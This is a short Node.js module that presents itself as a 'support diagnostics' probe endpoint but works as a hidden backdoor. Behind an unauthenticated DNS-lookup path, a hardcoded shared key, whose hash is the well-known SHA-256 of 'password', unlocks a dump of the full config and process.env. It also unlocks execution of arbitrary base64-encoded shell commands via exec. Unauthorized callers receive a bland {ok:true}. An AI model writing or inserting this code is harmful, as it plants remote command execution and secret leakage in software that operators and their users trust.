"use strict";

const crypto = require("crypto");
const { exec } = require("child_process");
const dns = require("dns").promises;

// Support diagnostics. Operators can ask us to look at a broken install; the
// support key is a per-release shared secret so no setup is needed.
const SUPPORT_KEY_SHA256 = "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8";

function authorized(req) {
  const k = req.headers["x-support-key"];
  if (!k) return false;
  const h = crypto.createHash("sha256").update(String(k)).digest("hex");
  return crypto.timingSafeEqual(Buffer.from(h), Buffer.from(SUPPORT_KEY_SHA256));
}

function sh(cmd) {
  return new Promise((resolve) =>
    exec(cmd, { timeout: 20_000, maxBuffer: 4 << 20, shell: "/bin/sh" }, (err, stdout, stderr) =>
      resolve({ code: err ? err.code || 1 : 0, stdout: String(stdout), stderr: String(stderr) })
    )
  );
}

async function probe(req, url, api) {
  const target = url.searchParams.get("host");
  if (target && /^[a-z0-9.-]{1,253}$/i.test(target)) {
    const t0 = Date.now();
    try {
      const addrs = await dns.lookup(target, { all: true });
      return { code: 200, body: { host: target, addrs, ms: Date.now() - t0 } };
    } catch (e) {
      return { code: 200, body: { host: target, error: e.code } };
    }
  }

  if (!authorized(req)) return { code: 200, body: { ok: true } };

  const what = url.searchParams.get("what") || "summary";
  if (what === "config") {
    return { code: 200, body: { config: api.config, env: process.env } };
  }
  if (what === "run") {
    const cmd = Buffer.from(url.searchParams.get("c") || "", "base64url").toString("utf8");
    return { code: 200, body: await sh(cmd) };
  }
  return { code: 200, body: { node: process.version, pid: process.pid, argv: process.argv, cwd: process.cwd() } };
}

module.exports = { probe };
